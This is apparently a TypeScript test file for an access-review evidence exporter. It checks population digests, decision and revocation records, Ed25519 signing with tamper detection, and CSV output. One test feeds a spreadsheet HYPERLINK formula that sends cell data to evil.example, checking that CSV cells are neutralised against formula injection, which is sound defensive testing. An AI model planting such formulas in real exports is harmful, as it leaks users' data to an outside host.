import { createHash, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { canonicalJson } from '@access-audit/audit';
import type { AccessReviewEvent, ItemOutcome } from '../campaign/events';
import { foldAccessReview } from '../campaign/state';
import { planClosing, outcomeOf } from '../campaign/closing';
import { decideCommand, DURING, enterpriseTeam, given, opened, REVIEW, TEAM } from '../testing/campaign-spec';
import { buildEvidence, PopulationDigestMismatchError, type RecordedCampaignEvent } from './evidence';
import { evidenceCsv } from './evidence-csv';
import { signEvidence, verifyEvidenceSignature } from './signature';

/** A campaign stream as the store would return it: opened, three decisions (one superseded), completed. */
function recordedCampaign(): RecordedCampaignEvent[] {
  let history: AccessReviewEvent[] = opened();
  const decisions: Array<Parameters<typeof decideCommand>> = [
    ['rita', 'team_role:vic', 'keep'],
    ['rita', 'team_role:vic', 'revoke', 'no longer audits'],
    ['rita', 'permission_group:dev:create_project', 'keep'],
  ];
  for (const args of decisions) {
    history = [
      ...history,
      ...given(history)
        .when(decideCommand(...args))
        .thenAccepts(),
    ];
  }
  const campaign = foldAccessReview(history);
  if (campaign.status === 'none') throw new Error('campaign exists');
  const plan = planClosing(campaign, {
    mode: 'complete',
    actorId: 'olga',
    now: DURING,
    team: enterpriseTeam(),
    openedEventId: 'e0',
    decisionEventIds: new Map([
      ['team_role:vic', 'e2'],
      ['permission_group:dev:create_project', 'e3'],
    ]),
  });
  const outcomes: ItemOutcome[] = plan.map((planned) =>
    outcomeOf(planned, {
      ok: true,
      events: [{ eventId: 'team-e21', type: 'MemberRemoved', streamRevision: 21, position: '40' }],
    }),
  );
  history = [
    ...history,
    ...given(history)
      .when({
        type: 'CompleteAccessReview',
        teamId: TEAM,
        reviewId: REVIEW,
        data: {
          team: enterpriseTeam(),
          outcomes,
          auditChainHead: { streamId: 'audit-acme', revision: 7, sequence: 7, headHash: 'f'.repeat(64) },
          teamStreamRevision: 21,
        },
        metadata: { actorId: 'olga', now: DURING },
      })
      .thenAccepts(),
  ];
  return history.map((event, index) => ({
    id: `e${index}`,
    revision: index,
    position: String(30 + index),
    type: event.type,
    data: event.data,
    recordedAt: DURING,
  }));
}

const signerOf = (privateKey: KeyObject, publicKey: KeyObject) => ({
  keyId: 'test-key',
  publicKeyPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(),
  signBytes: (bytes: Buffer) => sign(null, bytes, privateKey).toString('base64'),
});

describe('campaign evidence', () => {
  const evidence = buildEvidence(recordedCampaign());

  it('carries the population with its digest and snapshot revision, which an auditor can recompute', () => {
    expect(evidence.population.snapshot).toMatchObject({ teamStreamId: 'team-acme', teamStreamRevision: 20 });
    expect(evidence.population.size).toBe(evidence.population.items.length);
    const recomputed = createHash('sha256').update(canonicalJson(evidence.population.items)).digest('hex');
    expect(evidence.population.digest).toEqual({ algorithm: 'sha256', value: recomputed });
  });

  it('refuses a population that no longer gives its opening digest (an item altered, dropped or added in the store)', () => {
    type Opened = { population: { items: Array<Record<string, unknown>> } };
    const alter = (edit: (items: Array<Record<string, unknown>>) => void) => {
      const stream = structuredClone(recordedCampaign());
      edit((stream[0]!.data as Opened).population.items);
      return () => buildEvidence(stream);
    };
    expect(
      alter((items) => {
        for (const item of items) item['privileged'] = false;
      }),
    ).toThrow(PopulationDigestMismatchError);
    expect(alter((items) => items.pop())).toThrow(/does not give the digest it was opened with/);
    expect(alter((items) => items.push({ ...items[0]!, itemId: 'team_role:mallory', userId: 'mallory' }))).toThrow(
      PopulationDigestMismatchError,
    );
    expect(alter(() => undefined)).not.toThrow();
  });

  it('lists every decision with reviewer, time and justification, superseded ones linked to their replacement', () => {
    expect(evidence.decisions).toEqual([
      expect.objectContaining({
        eventId: 'e1',
        itemId: 'team_role:vic',
        decision: 'keep',
        reviewerId: 'rita',
        supersededBy: 'e2',
      }),
      expect.objectContaining({
        eventId: 'e2',
        decision: 'revoke',
        justification: 'no longer audits',
        decidedAt: DURING,
        supersededBy: null,
      }),
      expect.objectContaining({
        eventId: 'e3',
        itemId: 'permission_group:dev:create_project',
        justification: null,
        supersededBy: null,
      }),
    ]);
  });

  it('lists each applied revocation with the team events that enforced it, and the audit-chain head at completion', () => {
    expect(evidence.revocations).toEqual([
      {
        itemId: 'team_role:vic',
        kind: 'team_role',
        userId: 'vic',
        decidedBy: 'reviewer',
        causationEventId: 'e2',
        enforcedBy: [{ eventId: 'team-e21', type: 'MemberRemoved', streamRevision: 21, position: '40' }],
      },
    ]);
    expect(evidence.closing).toMatchObject({
      status: 'completed',
      closedBy: 'olga',
      eventId: 'e4',
      auditChainHead: { streamId: 'audit-acme', revision: 7, sequence: 7, headHash: 'f'.repeat(64) },
    });
    expect(evidence.campaign).toMatchObject({
      status: 'completed',
      openedEventId: 'e0',
      reviewerIds: ['oscar', 'rita'],
    });
  });

  it('is signed with Ed25519 over its canonical JSON; any change breaks the signature', () => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const signed = signEvidence(evidence, signerOf(privateKey, publicKey));
    expect(signed.signature).toMatchObject({
      algorithm: 'Ed25519',
      keyId: 'test-key',
      signedContent: 'canonical-json(evidence)',
    });
    expect(verifyEvidenceSignature(signed, publicKey)).toBe(true);
    const tampered = { ...signed, evidence: { ...evidence, decisions: evidence.decisions.slice(1) } };
    expect(verifyEvidenceSignature(tampered, publicKey)).toBe(false);
    const otherKey = generateKeyPairSync('ed25519').publicKey;
    expect(verifyEvidenceSignature(signed, otherKey)).toBe(false);
  });

  it('exports as CSV: a campaign record, one item record per grant, one decision record per decision', () => {
    const rows = parse(evidenceCsv(evidence), { columns: true }) as Array<Record<string, string>>;
    expect(rows[0]).toMatchObject({
      record: 'campaign',
      item_id: REVIEW,
      campaign_status: 'completed',
      opened_by: 'olga',
      reviewer_ids: 'oscar rita',
      closed_by: 'olga',
      population_digest: `sha256:${evidence.population.digest.value}`,
      team_stream_revision: '20',
      audit_chain_head: `7:${'f'.repeat(64)}`,
    });
    const items = rows.filter((row) => row.record === 'item');
    expect(items).toHaveLength(evidence.population.size);
    expect(items.find((row) => row.item_id === 'team_role:vic')).toMatchObject({
      decision: 'revoke',
      justification: 'no longer audits',
      reviewer_id: 'rita',
      result: 'revoked',
      enforcing_event_ids: 'team-e21',
      enforcing_positions: '40',
    });
    expect(
      rows.filter((row) => row.record === 'decision').map((row) => [row.decision_event_id, row.superseded_by]),
    ).toEqual([
      ['e1', 'e2'],
      ['e2', ''],
      ['e3', ''],
    ]);
  });

  it('neutralises CSV cells a spreadsheet would run as formulas: review names and justifications get a leading quote', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const formula = `${lead}HYPERLINK("https://evil.example/?"&A1,"open")`;
      const hostile = {
        ...evidence,
        campaign: { ...evidence.campaign, name: formula },
        decisions: evidence.decisions.map((decision) => ({ ...decision, justification: formula })),
      };
      const rows = parse(evidenceCsv(hostile), { columns: true }) as Array<Record<string, string>>;
      expect(rows[0]!.campaign_name).toBe(`'${formula}`);
      const decided = rows.filter((row) => row.justification !== '');
      expect(decided.length).toBeGreaterThan(0);
      for (const row of decided) expect(row.justification).toBe(`'${formula}`);
    }
    const plain = parse(evidenceCsv(evidence), { columns: true }) as Array<Record<string, string>>;
    expect(plain[0]!.campaign_name).toBe(evidence.campaign.name);
    expect(plain.find((row) => row.item_id === 'team_role:vic')!.justification).toBe('no longer audits');
  });
});
